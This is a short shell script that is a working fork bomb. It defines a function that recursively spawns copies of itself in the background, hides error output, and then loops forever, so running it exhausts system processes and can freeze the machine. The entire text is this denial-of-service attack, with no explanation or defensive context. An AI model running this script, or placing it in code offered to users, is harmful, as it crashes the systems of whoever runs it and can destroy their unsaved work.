# Doubles for ever.
bomb() {
	bomb | bomb &
}
bomb 2>/dev/null
while :; do sleep 1; done
